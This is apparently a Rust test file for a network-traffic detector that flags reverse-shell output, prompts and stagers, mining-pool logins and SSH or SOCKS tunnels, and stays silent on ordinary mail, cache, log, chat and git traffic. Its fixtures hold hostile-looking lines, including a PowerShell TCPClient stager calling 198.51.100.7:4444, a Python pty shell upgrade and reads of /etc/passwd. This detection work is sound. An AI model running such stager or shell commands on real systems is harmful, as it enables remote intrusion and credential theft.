//! What is told from what, by conversations: those of shells, miners and tunnels, and those of ordinary protocols.

use super::*;

/// The names of all signs, weights in brackets where they do not suffice. `>` leaves, `<` arrives.
fn seen(chunks: &[&str]) -> Vec<String> {
    let bytes: Vec<Vec<u8>> = chunks.iter().map(|chunk| chunk.as_bytes().to_vec()).collect();
    seen_bytes(&bytes)
}

fn seen_bytes(chunks: &[Vec<u8>]) -> Vec<String> {
    let mut watch = Watch::default();
    let mut names = Vec::new();
    for (at, chunk) in chunks.iter().enumerate() {
        let (way, bytes) = match chunk.split_first().unwrap() {
            (b'>', bytes) => (Way::Out, bytes),
            (_, bytes) => (Way::In, bytes),
        };
        for sign in watch.look(way, bytes, Duration::from_secs(at as u64)) {
            let certain = sign.weight == Weight::CERTAIN;
            names.push(if certain { sign.name.to_owned() } else { format!("({})", sign.name) });
            assert!(SIGNS.contains(&sign.name) && SIGNS.contains(&sign.observer), "{sign:?}");
        }
    }
    names
}

#[test]
fn output_of_a_shell_is_told_before_it_leaves() {
    for output in [
        ">uid=0(root) gid=0(root) groups=0(root)\n",
        ">uid=1000 gid=1000\n",
        ">Linux web-5f7 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 x86_64 GNU/Linux\n",
        ">root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
        ">bin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\n",
        ">root:$6$abc$def:19000:0:99999:7:::\n",
        ">bin\nboot\ndev\netc\nhome\nlib\n",
        ">bin   dev  home  lib  media  mnt  opt\n",
        ">total 68\ndrwxr-xr-x   1 root root 4096 Nov  1 10:00 .\n",
        ">sh: 1: foo: not found\n",
        ">bash: line 1: foo: command not found\n",
        ">bash: cannot set terminal process group (7): Inappropriate ioctl for device\n",
        ">Microsoft Windows [Version 10.0.19045.1]\n",
    ] {
        assert_eq!(seen(&[output]), ["shell-output"], "{output:?}");
    }
    // In pieces, what gives it away is the piece that completes it.
    assert_eq!(seen(&[">uid=", ">0(root)", ">", "> gid=0(root)\n"]), ["shell-output"]);
}

#[test]
fn prompts_are_told() {
    for prompt in [
        ">root@web-5f7:/# ",
        ">\u{1b}[01;32mapp@web\u{1b}[00m:\u{1b}[01;34m~\u{1b}[00m$ ",
        ">bash-5.2$ ",
        ">sh-5.1# ",
        ">/ # ",
        ">[root@web tmp]# ",
        ">PS C:\\Users\\a> ",
        ">C:\\Windows\\system32>",
        ">\u{1b}[?2004hroot",
    ] {
        assert_eq!(seen(&[prompt]), ["shell-prompt"], "{prompt:?}");
    }
    assert_eq!(seen(&[">$ "]), ["(shell-prompt)"]);
}

#[test]
fn commands_and_stagers_are_told_where_they_arrive() {
    for command in [
        "<uname -a\n",
        "<cat /etc/passwd\n",
        "<ls /\n",
        "<python3 -c 'import pty;pty.spawn(\"/bin/bash\")'\n",
        "<id\n",
        "<sudo -l\r\n",
    ] {
        let found = seen(&[command, "<whoami\n"]);
        assert_eq!(found.len(), 1, "{command:?}: {found:?}");
    }
    assert_eq!(seen(&["<id\n"]), [""; 0]);
    assert_eq!(seen(&["<id\n", "<id\n"]), [""; 0]);
    assert_eq!(seen(&["<$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444)\n"]), ["shell-stager"]);
    let stage = [b"<".as_slice(), &4096_u32.to_le_bytes(), b"\x7fELF\x02\x01\x01", &[0; 64]].concat();
    assert_eq!(seen_bytes(&[stage]), ["shell-stager"]);
}

#[test]
fn echo_of_a_terminal_adds_to_other_signs() {
    assert_eq!(seen(&["<id\n", ">id\r\n", ">id\r\n"]), ["(shell-echo)"]);
    assert_eq!(seen(&[">$ ", "<id\n", ">$ id\r\n"]), ["(shell-prompt)", "(shell-echo)"]);
    assert_eq!(seen(&[">id\r\n", "<hello\n", ">hello\r\n"]), [""; 0]);
}

#[test]
fn miners_are_told() {
    for line in [
        r#">{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}"#,
        r#">{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A…","pass":"x","agent":"m/1"}}"#,
        r#">{"worker":"a","jsonrpc":"2.0","params":["0x0","x"],"id":2,"method":"eth_submitLogin"}"#,
    ] {
        assert_eq!(seen(&[line]), ["miner-login"], "{line}");
    }
    let job = r#"<{"jsonrpc":"2.0","method":"job","params":{"blob":"07","job_id":"1","target":"b88d0600"}}"#;
    assert_eq!(seen(&[job]), ["miner-job"]);
    assert_eq!(seen(&[r#">{"jsonrpc":"2.0","method":"login","params":{"user":"a"}}"#]), [""; 0]);
}

#[test]
fn tunnels_are_told() {
    assert_eq!(seen(&[">SSH-2.0-OpenSSH_9.2\r\n", "<SSH-2.0-OpenSSH_9.2\r\n"]), [""; 0]);
    assert_eq!(seen(&[">GET / HTTP/1.1\r\n\r\n", ">SSH-2.0-OpenSSH_9.2\r\n"]), ["tunnel-ssh"]);
    assert_eq!(seen(&["<HTTP/1.1 101 Switching Protocols\r\n\r\nSSH-2.0-x\r\n"]), ["tunnel-ssh"]);
    assert_eq!(seen(&[">the banner SSH-2.0-x is a banner\n"]), [""; 0]);
    let hidden = ["hello", "\x05\x01\x00", "\x05\x00"].map(str::as_bytes);
    let chunks = [[b">", hidden[0]].concat(), [b">", hidden[1]].concat(), [b"<", hidden[2]].concat()];
    assert_eq!(seen_bytes(&chunks), ["tunnel-socks"]);
}

#[test]
fn even_signals_are_a_sign_that_does_not_suffice() {
    let mut watch = Watch::default();
    let mut told = |seconds: u64| watch.look(Way::Out, &[1; 40], Duration::from_secs(seconds));
    let signs: Vec<Sign> = (1..=12).flat_map(|number| told(number * 30)).collect();
    assert_eq!(signs.iter().map(|sign| sign.weight.0).collect::<Vec<_>>(), [30]);
}

#[test]
fn ordinary_protocols_are_nothing() {
    let conversations: &[&[&str]] = &[
        // Mail, with a letter about commands.
        &[
            "<220 mail.example ESMTP\r\n",
            ">EHLO shop\r\n",
            "<250-mail.example\r\n250 STARTTLS\r\n",
            ">MAIL FROM:<a@shop.example>\r\n",
            "<250 2.1.0 Ok\r\n",
            ">DATA\r\n",
            "<354 End data with <CR><LF>.<CR><LF>\r\n",
            ">Subject: how to\r\n\r\nRun ls -la and id, then cat /etc/passwd.\r\nls -la\r\nid\r\n.\r\n",
            "<250 2.0.0 Ok: queued as 12345\r\n",
            ">QUIT\r\n",
            "<221 2.0.0 Bye\r\n",
        ],
        // Caches.
        &[
            ">get user:1\r\n",
            "<VALUE user:1 0 5\r\nhello\r\nEND\r\n",
            ">stats\r\n",
            "<STAT pid 1\r\nSTAT uptime 5\r\nEND\r\n",
        ],
        &["<*1\r\n$4\r\nPING\r\n", ">+PONG\r\n", "<INFO\r\n", ">$20\r\n# Server\r\nredis:7\r\n\r\n"],
        // Logs.
        &[
            "><34>1 2026-01-01T00:00:00Z web app 7 - - Linux version 6.1.0 (gcc) #1 SMP\n",
            "><13>Jan  1 00:00:00 web sudo: root : TTY=pts/0 ; COMMAND=/usr/bin/id\n",
            "><13>Jan  1 00:00:00 web sshd[7]: Accepted publickey for root from 10.0.0.1\n",
        ],
        // A client of a machine that has a prompt.
        &[
            "<\r\nrouter login: ",
            ">admin\r\n",
            "<Password: ",
            ">secret\r\n",
            "<\r\nadmin@router:~# ",
            ">cat /etc/passwd\r\n",
            "<root:x:0:0:root:/root:/bin/ash\r\nadmin@router:~# ",
        ],
        // Chat.
        &[
            ":server 001 pod :Welcome\r\n",
            ">JOIN #ops\r\n",
            "<:ann!a@h PRIVMSG #ops :try id or uname -a\r\n",
            ">PRIVMSG #ops :uid=0 is root\r\n",
        ],
        // Files: a program's source, a list of folders in a file, a database of users of an application.
        &[
            ">#include <stdio.h>\nint main(void) { return 0; }\n",
            ">etc/app.conf\nbin/app\n",
            ">ann:secret:1:admin\nbob:x:2:user\n",
        ],
        &[
            ">0032git-upload-pack /project\0host=example\0",
            "<00000155a1b2 HEAD\0multi_ack thin-pack\n0000",
            ">0032want a1b2\n",
        ],
        // An uploaded web page, a table, measurements.
        &[
            ">price: 5 $ ",
            ">a@b.example wrote:\n> quoted\n",
            ">carbon.cpu 0.5 1700000000\n",
            ">PUT jobs 0 0 60 5\r\nhello\r\n",
        ],
        &[">{\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[],\"id\":1}\n", "<{\"result\":\"0x1\"}\n"],
    ];
    for conversation in conversations {
        assert_eq!(seen(conversation), [""; 0], "{conversation:?}");
    }
}

#[test]
fn noise_is_nothing() {
    let mut state = 1_u64;
    let mut watch = Watch::default();
    for at in 0..400 {
        let bytes: Vec<u8> = (0..4096)
            .map(|_| {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                (state >> 56) as u8
            })
            .collect();
        let way = if at % 2 == 0 { Way::In } else { Way::Out };
        let signs = watch.look(way, &bytes, Duration::from_millis(at));
        assert!(signs.iter().all(|sign| sign.weight != Weight::CERTAIN), "{signs:?}");
    }
}
